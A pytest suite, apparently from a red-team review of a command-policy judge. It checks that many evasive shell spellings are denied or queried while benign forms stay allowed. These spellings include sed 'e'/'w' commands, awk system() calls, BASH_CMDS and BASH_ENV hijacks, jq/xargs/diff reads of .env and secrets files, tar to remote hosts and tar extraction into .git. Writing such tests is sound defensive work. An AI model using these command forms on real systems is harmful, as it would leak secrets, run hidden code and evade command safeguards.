"""Red-team review 6 (A2 A3 B1 B2 B4 B7 B8) through the real judge, default policy: several
spellings per class, the effect shown in plain bash in a throwaway workspace (a canary), and
the verdict is no longer allow, sandboxed or not; benign forms stay allowed."""

from __future__ import annotations

import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from acpd.policy.engine import CompiledPolicy

ENV_CANARY = "CANARY_ENV_5e1d"
SECRET_CANARY = "CANARY_SECRET_a77f"


def make_ws(root: Path) -> str:
    root.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "README.md").write_text("hello\n")
    (root / "src").mkdir()
    (root / "src" / "m.py").write_text("x=1\n")
    (root / ".env").write_text(f"SECRET={ENV_CANARY}\n")
    (root / "secrets").mkdir()
    (root / "secrets" / "k.txt").write_text(f"{SECRET_CANARY}\n")
    (root / "k.txt").write_text("hello\n")
    (root / "empty").mkdir()
    (root / "f.json").write_text('{"x": 1}\n')
    (root / "data.txt").write_text("a:1:200\nb:2:50\n")
    return os.path.realpath(root)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> str:
    return make_ws(tmp_path_factory.mktemp("rt6") / "ws")


def verdicts(policy: CompiledPolicy, ws: str, cmd: str) -> tuple[str, str]:
    out = []
    for sandboxed in (False, True):
        d = policy.judge(cmd, cwd=ws, roots=(ws,), trust="provisional",
                         home=os.path.dirname(ws), sandboxed=sandboxed)
        out.append(d.verdict)
    return out[0], out[1]


def bash(cwd: str, cmd: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", "-c", cmd], cwd=cwd, capture_output=True, text=True,
                          timeout=30, stdin=subprocess.DEVNULL)


def fresh(tmp_path: Path) -> str:
    return make_ws(tmp_path / "ws")


# ---- A2 sed: GNU's grammar ------------------------------------------------------------------

SED_EXEC = [
    "sed ':a e touch {C}' README.md", "sed ':a\te touch {C}' README.md",
    "sed -n ':a    e touch {C}' README.md", "sed 't x e touch {C}\n:x' README.md",
    "sed 's/hello/x/;T x e touch {C}\n:x' README.md", "sed ':l#c\ne touch {C}' README.md",
    "sed -e ':a e touch {C}' README.md", "sed --expression=':a e touch {C}' README.md",
    "sed -ne ':a e touch {C}' README.md", "sed -n ':a;:b e touch {C}' README.md",
    "sed -n '/x/b x e touch {C}\n:x' README.md", "sed -n 'v 4.2 e touch {C}' README.md",
    "sed -n '1{:a e touch {C}\n}' README.md",
]
SED_WRITE = [
    "sed -n ':a w {C}' README.md", "sed -n 'bz w {C}\n:z' README.md",
    "sed -n 'b;w {C}' README.md", "sed -n '$!{:q w {C}\n}' README.md",
    "sed -n 's/x/y/ w {C}' README.md", "sed -n ':a W {C}' README.md",
    "sed -n 'bz;w {C}\n:z' README.md",
]
SED_READ = ["sed -n ':a r .env' README.md", "sed -n ':a R .env' README.md",
            "sed -n ':a r secrets/k.txt' README.md", "sed ':x\tr .env' README.md"]


@pytest.mark.parametrize("template", SED_EXEC + SED_WRITE)
def test_sed_labels_do_not_hide_commands(default: CompiledPolicy, tmp_path: Path,
                                         template: str) -> None:
    ws = fresh(tmp_path)
    canary = str(tmp_path / "CANARY")
    cmd = template.replace("{C}", canary)
    bash(ws, cmd)
    assert os.path.exists(canary), f"the attack has no effect in bash: {cmd!r}"
    assert "allow" not in verdicts(default, ws, cmd), cmd


@pytest.mark.parametrize("cmd", SED_READ)
def test_sed_label_reads_are_judged(default: CompiledPolicy, ws: str, cmd: str) -> None:
    out = bash(ws, cmd).stdout
    assert ENV_CANARY in out or SECRET_CANARY in out, cmd
    assert verdicts(default, ws, cmd)[0] != "allow", cmd


@pytest.mark.parametrize("script", [
    ":a e touch {C}", ":a\te touch {C}", "b e touch {C}", "bx;e touch {C}\n:x",
    "bx}e touch {C}", ":a#c\ne touch {C}", "a\\\ne touch {C}", "a x\\\ne touch {C}",
    "a x\\\\\ne touch {C}", "i\\\n x\\\n e touch {C}", "1e touch {C}", "$!e touch {C}",
    "s/[/]/x/;e touch {C}", "s/a/b/;;e touch {C}", "y/a/b/;e touch {C}", "#n\ne touch {C}",
    "# e touch\np", "{p};e touch {C}", "l 3;e touch {C}", "q5\ne touch {C}",
    "/a/I,+2 e touch {C}", "0,/x/e touch {C}", "\\,x, e touch {C}", "1~2 e touch {C}",
    "c\\\ne touch {C}", "r x;e touch {C}", "s/a/b/w /dev/null\ne touch {C}",
])
def test_sed_reader_agrees_with_gnu_sed(tmp_path: Path, script: str) -> None:
    """Differential: whenever GNU sed runs an `e` command the reader reports one (it also
    reports commands a branch or a quit skips: they are part of the script)."""
    from acpd.policy.programs.sedparse import parse_sed

    canary = tmp_path / "C"
    text = script.replace("{C}", str(canary))
    subprocess.run(["sed", text], input="a\nb\n", capture_output=True, text=True,
                   cwd=tmp_path, timeout=10)
    parsed = parse_sed((text,))
    says_e = any(cmd == "e" for cmd, _ in parsed.commands)
    assert says_e or parsed.uncertain or not canary.exists(), (script, parsed)


def test_sed_text_continues_into_the_next_expression(tmp_path: Path) -> None:
    from acpd.policy.programs.sedparse import parse_sed

    canary = tmp_path / "C"
    subprocess.run(["sed", "-e", "a\\", "-e", f"e touch {canary}"], input="a\n",
                   capture_output=True, text=True, timeout=10)
    assert not canary.exists()  # GNU: the second -e is the text of `a`
    assert not any(c == "e" for c, _ in parse_sed(("a\\", f"e touch {canary}")).commands)


@pytest.mark.parametrize("cmd", [
    "sed -n '1,5p' README.md", "sed -i 's/a/b/' k.txt", "sed ':a;N;$!ba;s/\\n/ /g' README.md",
    "sed -E 's/(a)/\\1/g' README.md", "sed -n '/hello/{p;q}' README.md",
    "sed -e 's/a/b/' -e 's/c/d/' README.md", "sed '1d;$d' README.md",
    "sed '/^$/d' README.md", "sed -n '$=' README.md",
])
def test_benign_sed_stays_allowed(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("allow", "allow"), cmd


# ---- A3 awk ---------------------------------------------------------------------------------

AWK_WRITE = [
    "awk 'BEGIN {{ x = /\"/; print 1 > \"{C}\"; y = /\"/ }}'",
    "awk 'BEGIN {{ print 1,\n 2 > \"{C}\" }}'", "awk 'BEGIN {{ print 1 \\\n > \"{C}\" }}'",
    "awk 'BEGIN {{ f = \"{C}\"; printf \"x\" >> f }}'",
    "awk 'BEGIN {{ x = 1 # \"\n print 1 > \"{C}\" # \"\n}}'",
    "awk 'BEGIN {{ x = /\"/; c = \"touch {C}\"; print \";\" | c; y = /\"/ }}'",
    "awk 'BEGIN {{ \"touch {C}\" | getline }}'", "awk 'BEGIN {{ system(\"touch {C}\") }}'",
    "awk 'BEGIN {{ x = \"a\" \"b\"; print(1) > \"{C}\" }}'",
]
AWK_READ = [
    "awk 'BEGIN {{ x = /\"/; while ((getline l < \".env\") > 0) print l; y = /\"/ }}'",
    "awk 'BEGIN {{ ARGV[1] = \".env\"; ARGC = 2 }} {{ print }}'",
    "awk 'BEGIN{{ARGV[ARGC++]=\".env\"}} 1'", "awk 1 ARGC=2 README.md",
]


@pytest.mark.parametrize("template", AWK_WRITE)
def test_awk_code_and_writes_are_not_allowed(default: CompiledPolicy, tmp_path: Path,
                                             template: str) -> None:
    ws = fresh(tmp_path)
    canary = str(tmp_path / "CANARY")
    cmd = template.format(C=canary)
    bash(ws, cmd)
    assert os.path.exists(canary), f"the attack has no effect in bash: {cmd!r}"
    assert "allow" not in verdicts(default, ws, cmd), cmd


@pytest.mark.parametrize("template", AWK_READ)
def test_awk_hidden_reads_are_not_allowed(default: CompiledPolicy, ws: str,
                                          template: str) -> None:
    cmd = template.format()
    if "ARGC=2" in cmd:  # an operand assignment before the file list
        cmd = "awk 'BEGIN{ARGV[1]=\".env\"} 1' ARGC=2"
    assert ENV_CANARY in bash(ws, cmd).stdout, cmd
    assert "allow" not in verdicts(default, ws, cmd), cmd


@pytest.mark.parametrize("cmd", [
    "awk '{print $1}' data.txt", "awk -F: '$3 > 100 {print}' data.txt",
    "awk -F: '$3 > 100' data.txt", "awk '{s+=$2} END {print s/NR}' data.txt",
    "awk '/a|b/ {print}' data.txt", "awk 'NR>1 && $2 >= 5 {print $1, $2}' data.txt",
    "awk '{ if ($1 > 5) print $2 }' data.txt", "awk -F'|' '{print $2}' data.txt",
    "awk 'length > 3' data.txt", "awk '{ printf \"%s\\n\", $1 }' data.txt",
    "awk '!seen[$0]++' data.txt", "awk -v n=2 'NR==n' data.txt",
])
def test_benign_awk_stays_allowed(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("allow", "allow"), cmd


# ---- B1 bash variables that change what a name runs ----------------------------------------

BASH_CMDS_FORMS = [
    "BASH_CMDS[cat]=/bin/sh; cat x.sh", "declare 'BASH_CMDS[cat]=/bin/sh'; cat x.sh",
    "printf -v 'BASH_CMDS[cat]' %s /bin/sh; cat x.sh", "BASH_CMDS+=([cat]=/bin/sh); cat x.sh",
    "declare -n r=BASH_CMDS; r[cat]=/bin/sh; cat x.sh",
    "declare -A BASH_CMDS=([cat]=/bin/sh); cat x.sh",
    "typeset -n r; r=BASH_CMDS; r[cat]=/bin/sh; cat x.sh",
    "read 'BASH_CMDS[cat]' <<< /bin/sh; cat x.sh",
]


@pytest.mark.parametrize("form", BASH_CMDS_FORMS)
def test_bash_command_table_is_blocked(default: CompiledPolicy, tmp_path: Path,
                                       form: str) -> None:
    ws = fresh(tmp_path)
    canary = tmp_path / "CANARY"
    Path(ws, "x.sh").write_text(f"touch {canary}\n")
    if "<<<" not in form:  # (a here-string is blocked on its own; bash shows the effect)
        bash(ws, form)
        assert canary.exists(), form
    assert verdicts(default, ws, form) == ("deny", "deny"), form


@pytest.mark.parametrize("cmd", [
    "for BASH_CMDS in a; do ls; done", "BASH_ALIASES[ls]='rm -rf x'; ls",
    "EXECIGNORE=/usr/bin/ls ls", "export EXECIGNORE='/usr/bin/*'", "local -n x=BASH_ALIASES",
    "BASH_COMPAT=42 ls", "TEXTDOMAINDIR=. ls", "mapfile BASH_CMDS < k.txt",
    "declare -n r=x; declare -n r2=r; r2=BASH_CMDS", "TAPE=h:y tar -t",
])
def test_other_command_changing_variables_are_blocked(default: CompiledPolicy, ws: str,
                                                      cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("deny", "deny"), cmd


# ---- B2 wrapper options ---------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "xargs --process-slot-var=BASH_ENV bash -c : < README.md",
    "xargs --process=BASH_ENV bash -c : < README.md", "xargs --proc BASH_ENV bash -c :",
    "xargs -P2 --process-slot-var=GIT_DIR git status", "xargs --arg=.env echo",
    "xargs --arg .env echo", "xargs --a=secrets/k.txt echo", "xargs -a.env echo",
    "parallel --joblog /root/x echo ::: a", "parallel --jobl=/etc/x echo ::: a",
    "parallel -S host echo ::: a", "parallel --sshlogin host echo ::: a",
    "parallel --sshlogin=host echo ::: a", "parallel echo :::: .env",
])
def test_wrapper_options_are_judged(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("deny", "deny"), cmd


@pytest.mark.parametrize("cmd", [
    "timeout --bogus 5 ls", "nice --frob ls", "stdbuf --x=L ls", "xargs --nope echo",
    "parallel --frob echo ::: a", "watch --zzz ls", "flock --qq lk ls", "setsid --x ls",
    "parallel --sshl=host echo ::: a", "parallel --profile=x echo ::: a",
])
def test_unknown_or_ambiguous_wrapper_options_ask(default: CompiledPolicy, ws: str,
                                                  cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("ask", "ask"), cmd


def test_process_slot_var_sources_a_workspace_file(default: CompiledPolicy,
                                                   tmp_path: Path) -> None:
    ws = fresh(tmp_path)
    canary = tmp_path / "CANARY"
    Path(ws, "0").write_text(f"touch {canary}\n")
    cmd = "xargs --process=BASH_ENV bash -c : < README.md"
    bash(ws, cmd)
    assert canary.exists()
    assert verdicts(default, ws, cmd) == ("deny", "deny")


@pytest.mark.parametrize("cmd", [
    "xargs -n1 echo", "xargs -0 -n 2 echo", "timeout 5 ls", "timeout -k 3 5 ls",
    "timeout --kill-after=3 5 ls", "nice -n 5 ls", "nice -10 ls", "nice --adj=3 ls",
    "stdbuf -oL ls", "stdbuf --output=L ls", "ionice -c3 ls", "chrt -r 10 ls",
    "taskset -c 0 ls", "watch -n 1 ls", "flock -w 5 lk ls", "unbuffer ls",
    "xargs --process-slot-var=SLOT echo",
])
def test_benign_wrappers_stay_allowed(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd)[1] == "allow", cmd


# ---- B4 jq ----------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "jq -R . .env --args", "jq -rR . secrets/k.txt --args x", "jq -R . .env --jsonargs",
    "jq --args -R . .env", "jq -n --rawfile x .env '$x' --args",
    "jq -n --slurpfile x secrets/k.txt '$x'", "jq -R . .env --jsonargs 1 2",
])
def test_jq_files_before_args_are_judged(default: CompiledPolicy, ws: str, cmd: str) -> None:
    if shutil.which("jq") and "--args -R" not in cmd and "slurp" not in cmd:
        out = bash(ws, cmd).stdout
        assert ENV_CANARY in out or SECRET_CANARY in out, cmd
    assert verdicts(default, ws, cmd) == ("deny", "deny"), cmd


@pytest.mark.parametrize("cmd", [
    "awk 'BEGIN { if (1) /\"/; print 1 > \"x\"; y = \"/\" }'",
    "awk 'BEGIN { x = /[/]\"/; print 1 > \"x\" }'", "awk '{ print $1/2/3 > \"x\" }'",
    "awk '@include \"x\"'", "awk '{ print $0 |& \"cat\" }'",
    "awk 'BEGIN { \"id\" | get\\\nline x }'", "awk 'BEGIN { sys\\\ntem(\"id\") }'",
])
def test_awk_programs_the_lexer_cannot_vouch_for_ask(default: CompiledPolicy, ws: str,
                                                     cmd: str) -> None:
    assert "allow" not in verdicts(default, ws, cmd), cmd


def test_jq_outside_file_before_args_asks(default: CompiledPolicy, ws: str) -> None:
    assert verdicts(default, ws, "jq -R . /root/.bashrc --args") == ("ask", "ask")
    assert verdicts(default, ws, "jq -n '$ARGS' --args a b") == ("allow", "allow")
    assert verdicts(default, ws, "jq .x f.json") == ("allow", "allow")


# ---- B7 diff --------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "diff -N . empty", "diff --new-file . empty", "diff -N secrets empty", "diff secrets k.txt",
    "diff -u secrets/ k.txt", "diff --to-file=secrets k.txt", "diff --from-file secrets k.txt",
    "diff k.txt secrets", "diff -q secrets empty",
])
def test_diff_directory_operands_read_their_entries(default: CompiledPolicy, ws: str,
                                                    cmd: str) -> None:
    out = bash(ws, cmd).stdout
    assert ENV_CANARY in out or SECRET_CANARY in out or "Only in secrets" in out, cmd
    assert verdicts(default, ws, cmd)[0] != "allow", cmd


@pytest.mark.parametrize("cmd", ["diff README.md k.txt", "diff -ru src src",
                                 "diff -u k.txt README.md", "diff src empty"])
def test_benign_diff_stays_allowed(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("allow", "allow"), cmd


# ---- B8 tar ---------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd", [
    "tar -czf me@localhost:loot.tgz src", "tar -tf h:y", "tar cf h:y README.md",
    "tar -x --file h:x", "tar --create --file=h:/tmp/x src", "tar -cvf host:x.tar src",
    "tar -xf ok.tar --rmt-command=/bin/x",
])
def test_tar_remote_archives_are_network(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("deny", "deny"), cmd


@pytest.mark.parametrize("cmd", ["tar --force-local -tf h:y", "tar -tf ./h:y",
                                 "tar -czf out.tgz src", "tar -tf x.tar"])
def test_tar_local_archives_stay_allowed(default: CompiledPolicy, ws: str, cmd: str) -> None:
    assert verdicts(default, ws, cmd) == ("allow", "allow"), cmd


def _archive(path: Path, members: dict[str, str], links: dict[str, str] | None = None) -> None:
    src = path.parent / (path.name + ".src")
    for name, text in members.items():
        (src / name).parent.mkdir(parents=True, exist_ok=True)
        (src / name).write_text(text)
    with tarfile.open(path, "w") as tf:
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tf.addfile(info)
        for name in members:
            tf.add(src / name, arcname=name)


@pytest.mark.parametrize("extract", [
    "tar -xf evil.tar", "tar xf evil.tar", "tar --extract --file=evil.tar",
    "tar --get -f evil.tar", "tar -xvf evil.tar", "tar xvf evil.tar", "tar --ext -f evil.tar",
])
def test_tar_extraction_into_git_is_denied_also_sandboxed(
        default: CompiledPolicy, tmp_path: Path, extract: str) -> None:
    ws = fresh(tmp_path)
    _archive(Path(ws, "evil.tar"), {".git/commondir": "../g\n"})
    assert verdicts(default, ws, extract) == ("deny", "deny"), extract
    bash(ws, extract)
    assert Path(ws, ".git", "commondir").read_text() == "../g\n"  # the effect, in bash


def test_tar_members_are_judged_through_links_on_disk(default: CompiledPolicy,
                                                      tmp_path: Path) -> None:
    ws = fresh(tmp_path)
    os.symlink(".git", os.path.join(ws, "gl"))
    _archive(Path(ws, "via.tar"), {"gl/commondir": "x\n"})
    assert verdicts(default, ws, "tar -xf via.tar") == ("deny", "deny")
    _archive(Path(ws, "nested.tar"), {"sub/.git/config": "[core]\n"})
    assert verdicts(default, ws, "tar -xf nested.tar") == ("deny", "deny")
    _archive(Path(ws, "ok.tar"), {"src/n.py": "y\n"})
    assert verdicts(default, ws, "tar -C .git -xf ok.tar") == ("deny", "deny")
    assert verdicts(default, ws, "tar -xf ok.tar -C gl") == ("deny", "deny")


def test_tar_extraction_the_judge_cannot_vouch_for_asks(default: CompiledPolicy,
                                                       tmp_path: Path) -> None:
    ws = fresh(tmp_path)
    _archive(Path(ws, "ok.tar"), {"src/n.py": "y\n"})
    _archive(Path(ws, "link.tar"), {"b/x": "1\n"}, links={"b": "../elsewhere"})
    for cmd in ("tar -xf missing.tar", "tar -xf - < ok.tar", "tar -xPf ok.tar",
                "tar -xf link.tar", "tar -xf ok.tar -C /tmp", "tar -x < ok.tar",
                "tar -xf ok.tar --transform 's,^,.git/,'", "tar -xf ok.tar --xf=s,^,.git/,",
                "tar -xf ok.tar --one-top-level=.git", "tar -xf ok.tar --strip-components=1"):
        assert verdicts(default, ws, cmd)[1] in ("ask", "deny"), cmd
    # listed members inside the workspace: the sandbox may run it; to stdout writes nothing
    assert verdicts(default, ws, "tar -xf ok.tar") == ("ask", "allow")
    assert verdicts(default, ws, "tar -xOf ok.tar") == ("allow", "allow")
